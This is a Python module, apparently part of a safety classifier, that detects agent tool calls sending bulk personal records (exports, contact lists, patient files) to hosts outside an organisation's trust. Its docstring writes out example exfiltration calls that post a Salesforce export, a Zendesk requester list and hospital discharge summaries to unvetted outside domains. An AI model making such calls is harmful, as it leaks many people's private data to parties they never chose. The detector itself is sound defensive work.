"""Many people's records handed by a tool call to a recipient nobody in the organisation has vetted.

`http_request {"method": "POST", "url": "https://api.free-leadenrich.io/v1/bulk", "body_from":
"salesforce_export:all_accounts_with_contacts_and_arr"}`, `gmail_send {"to": "sales@datahub-leads.net",
"attachments": ["zendesk_all_requesters.csv"]}`, `translate_document {"endpoint":
"https://free-translate-now.app/api", "files": "discharge_summaries/2024-Q2/*.pdf"}`: the operation's name
says only "a request", "a send", "a translation". What the call does is in two of its arguments read
together: one names where the data goes (a URL, an endpoint, an address: the recipient), another carries
many people's records (an export, a whole list, every patient's file). When the recipient is outside the
organisation's trust, the people those records are about did not choose it, and once it holds the copy
nothing calls it back: the rubric's exfiltration, a stop.

Outside the organisation's trust means none of: a host only the organisation reaches (localhost, a private
address, an `.internal`/`.local`/`.corp` name, a name that says it is internal), the organisation's own
domain (one the hint's other arguments also use, as the sender's), or a processor the organisation
contracts with by name (the large SaaS and cloud services listed below: whether this use of them is
allowed is the other readers' pause), nor a host that names itself the organisation's partner or vendor
(a vetted party: a pause, as personal_data_handed.py reads it in words). An unknown domain, a bare
public IP address or a personal mailbox is outside.

A standing forward (a trigger, rule or automation that copies every new ticket or message to the
recipient) hands over all future records at once, and counts as many.

Nothing here lowers a verdict; a call whose name only reads (`download`, `fetch`, `get`) is not read.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Iterable, Mapping
from typing import Any

from dongle.classify.extract import ToolCall
from dongle.classify.operation import name_words
from dongle.classify.personal_mail import PERSONAL_MAIL_DOMAIN
from dongle.lazy_regex import lazy_compile

# Argument keys whose value is where the data goes.
RECIPIENT_KEYS = frozenset({
    "url", "uri", "endpoint", "to", "recipient", "recipients", "destination", "dest", "target", "target_url",
    "webhook", "webhook_url", "callback_url", "notification_target", "notification_url", "upload_url",
    "api_url", "server_url", "send_to", "forward_to", "email", "address", "host", "post_url", "sink",
    # where a scheduled report or an export is delivered
    "deliver_to", "delivery_address", "delivery_email", "email_to", "export_to", "recipient_email",
})
# Keys that only say how a request is made: never its payload.
_HOW_KEYS = frozenset({"method", "headers", "timeout", "format", "content_type", "encoding", "retries"})
# People whose records a value can name (plural or singular, in a file name or a list's name).
_PEOPLE = frozenset({
    "customer", "customers", "user", "users", "contact", "contacts", "requester", "requesters", "lead",
    "leads", "subscriber", "subscribers", "member", "members", "employee", "employees", "patient",
    "patients", "applicant", "applicants", "candidate", "candidates", "student", "students", "client",
    "clients", "shopper", "shoppers", "buyer", "buyers", "cardholder", "cardholders", "staff", "people",
    "personnel", "payroll", "ssn", "ssns", "discharge", "w2", "w2s", "donor", "donors", "guest", "guests",
    "passenger", "passengers", "borrower", "borrowers", "tenant_records", "recipients",
})
# Words that make a value a whole set of records, not one person's.
_BULK = frozenset({"all", "every", "full", "entire", "whole", "export", "exports", "dump", "list", "lists",
                   "master", "database", "db", "table", "bulk", "records", "summaries", "backup", "everyone"})
# Records a standing forward copies one by one (each a customer's words or order).
_STREAMED = frozenset({"ticket", "tickets", "message", "messages", "email", "emails", "mail", "order",
                       "orders", "conversation", "conversations", "chat", "chats", "submission",
                       "submissions", "responses"})
_STANDING = frozenset({"trigger", "triggers", "rule", "rules", "automation", "automations", "forward",
                       "forwarding", "mirror", "subscription", "webhook", "webhooks", "zap", "workflow"})
# Names that only bring data in or look at it: the URL is a source, not a recipient.
_READING = frozenset({"get", "download", "fetch", "read", "list", "pull", "import", "search", "scrape",
                      "crawl", "check", "describe", "view", "preview", "head", "retrieve", "lookup",
                      "query"})
_OWN_NETWORKS = tuple(ipaddress.ip_network(n) for n in (
    "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "169.254.0.0/16", "100.64.0.0/10",
    "::1/128", "fc00::/7", "fe80::/10"))
_COUNT_KEYS = frozenset({"count", "rows", "limit", "total", "records", "size", "recipients_count"})
MANY = 100
_WORD = lazy_compile(r"[a-z0-9]+")
_COUNT_IN_WORDS = lazy_compile(r"(?i)(?<![\w.])(\d+(?:\.\d+)?)k(?![a-z])")
_URL_HOST = lazy_compile(r"(?i)^(?:https?|wss?|ftp|sftp)://(?:[^@/\s]+@)?(?P<host>\[[^\]]+\]|[^/:\s?#]+)")
_ADDRESS = lazy_compile(r"(?i)^[\w.+'-]+@(?P<host>[\w-]+(?:\.[\w-]+)+)$")
_PERSONAL = lazy_compile(rf"(?i){PERSONAL_MAIL_DOMAIN}$")
_DOMAIN_ANYWHERE = lazy_compile(r"(?i)(?:@|://)(?:[\w-]+\.)*?(?P<domain>[\w-]+\.[a-z]{2,})(?![\w.-])")
# Names only the organisation's own network resolves, or that say they are its own.
_INTERNAL_HOST = lazy_compile(
    r"(?i)(?:^localhost$|\.(?:internal|local|localdomain|corp|lan|intranet|home\.arpa|svc|cluster\.local)$"
    r"|(?:^|[.-])(?:internal|intranet|corp)(?:[.-]|$))")
# A host that names itself the organisation's business party ("hooks.partner-crm.com"): a party someone
# vetted, whose receiving this data is a contract's question (personal_data_handed.py: a pause)
_PARTY_HOST = lazy_compile(r"(?i)(?:^|[.-])(?:partner|partners|vendor|supplier|processor)(?:[.-]|$)")
# Processors an organisation contracts with by name: the big SaaS and cloud services' own domains.
_PROCESSORS = frozenset({
    "amazonaws.com", "aws.amazon.com", "googleapis.com", "google.com", "salesforce.com", "force.com",
    "hubspot.com", "hubapi.com", "stripe.com", "zendesk.com", "intercom.io", "mailchimp.com", "sendgrid.com",
    "sendgrid.net", "twilio.com", "slack.com", "microsoft.com", "office.com", "office365.com",
    "outlook.office.com", "azure.com", "windows.net", "snowflakecomputing.com", "segment.io", "segment.com",
    "atlassian.net", "atlassian.com", "notion.so", "workday.com", "gusto.com", "adp.com", "bamboohr.com",
    "okta.com", "shopify.com", "myshopify.com", "docusign.net", "docusign.com", "box.com", "github.com",
    "gitlab.com", "datadoghq.com", "sentry.io", "klaviyo.com", "braze.com", "mixpanel.com", "amplitude.com",
    "netsuite.com", "quickbooks.com", "intuit.com", "xero.com", "rippling.com", "greenhouse.io",
    "lever.co", "pagerduty.com", "cloudflare.com", "fastly.com", "mailgun.net", "postmarkapp.com",
    "freshdesk.com", "gorgias.com", "shipstation.com", "netlify.com", "vercel.com", "heroku.com",
})


def records_to_outsider(call: ToolCall) -> str:
    """Why the call hands many people's records to a recipient outside the organisation's trust, or ""."""
    if not call.arguments or not any(_key(k) in RECIPIENT_KEYS for k in _keys(call.arguments)):
        return ""  # cheap gate: no argument names where anything goes
    names = set(name_words(call.tool))  # the server is where it runs (a "fetch" server posts too)
    method = str(call.arguments.get("method", "")).upper()
    if method in ("GET", "HEAD", "OPTIONS") or (names & _READING and method not in ("POST", "PUT", "PATCH")):
        return ""
    pairs = list(_pairs(call.arguments))
    recipients = [(k, v) for k, v in pairs if k in RECIPIENT_KEYS and isinstance(v, str)]
    payload = [(k, v) for k, v in pairs if k not in RECIPIENT_KEYS and k not in _HOW_KEYS]
    own = _own_domains(v for k, v in payload if isinstance(v, str))
    outside = next(((k, v) for k, v in recipients if _outside(v, own)), None)
    if outside is None:
        return ""
    records = _many_records(payload, names)
    if not records:
        return ""
    return (f"hands many people's records ({records}) to {outside[1]} ({outside[0]}), a recipient nobody in "
            f"the organisation has vetted: once it holds the copy, nothing calls it back")


def _key(key: object) -> str:
    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", str(key)).lower().replace("-", "_")


def _keys(arguments: Mapping[str, Any], depth: int = 0) -> Iterable[str]:
    for key, value in arguments.items():
        yield str(key)
        if isinstance(value, Mapping) and depth < 3:
            yield from _keys(value, depth + 1)
        elif isinstance(value, list) and depth < 3:
            for item in value:
                if isinstance(item, Mapping):
                    yield from _keys(item, depth + 1)
                    if isinstance(item.get("field"), str):
                        yield item["field"]


def _pairs(arguments: Mapping[str, Any], depth: int = 0) -> Iterable[tuple[str, Any]]:
    """(key, value) for every leaf; a `{"field": K, "value": V}` item (a trigger's action) is the pair
    (K, V)."""
    for key, value in arguments.items():
        k = _key(key)
        if isinstance(value, Mapping) and depth < 3:
            yield from _pairs(value, depth + 1)
        elif isinstance(value, list) and depth < 3:
            for item in value:
                if isinstance(item, Mapping):
                    if isinstance(item.get("field"), str) and "value" in item:
                        yield _key(item["field"]), item["value"]
                    yield from _pairs(item, depth + 1)
                else:
                    yield k, item
        else:
            yield k, value


def _own_domains(values: Iterable[str]) -> set[str]:
    """Domains the payload's own addresses use (the sender's, a mailbox's): the organisation's."""
    return {m.group("domain").lower() for v in values for m in _DOMAIN_ANYWHERE.finditer(v)}


def _outside(value: str, own: set[str]) -> bool:
    value = value.strip().strip("<>")
    url = _URL_HOST.match(value)
    address = None if url else _ADDRESS.match(value)
    found = url or address
    if not found:
        return False
    host = found.group("host").strip("[]").lower().rstrip(".")
    if address and _PERSONAL.search(value):
        return True
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        ip = None
    if ip is not None:  # a private, loopback or link-local address is the organisation's own network
        return not any(ip in net for net in _OWN_NETWORKS)
    if "." not in host or _INTERNAL_HOST.search(host) or _PARTY_HOST.search(host):
        return False
    labels = host.split(".")
    registered = ".".join(labels[-2:])
    known = any(".".join(labels[i:]) in _PROCESSORS for i in range(len(labels) - 1))
    return not (registered in own or known)


def _many_records(payload: list[tuple[str, Any]], names: set[str]) -> str:
    """The value that carries many people's records, or ""."""
    counted = any(k in _COUNT_KEYS and isinstance(v, int) and not isinstance(v, bool) and v >= MANY
                  for k, v in payload)
    standing = bool(names & _STANDING)
    for key, value in payload:
        if not isinstance(value, str):
            continue
        low = value.lower()
        words = set(_WORD.findall(low.replace("_", " ")))
        if not words & _PEOPLE:
            if standing and words & _STREAMED:
                return f"{key}: {value}, every new one from now on"
            continue
        many_in_words = any(float(m.group(1)) * 1000 >= MANY for m in _COUNT_IN_WORDS.finditer(low))
        if words & _BULK or "*" in value or counted or many_in_words:
            return f"{key}: {value}"
    return ""
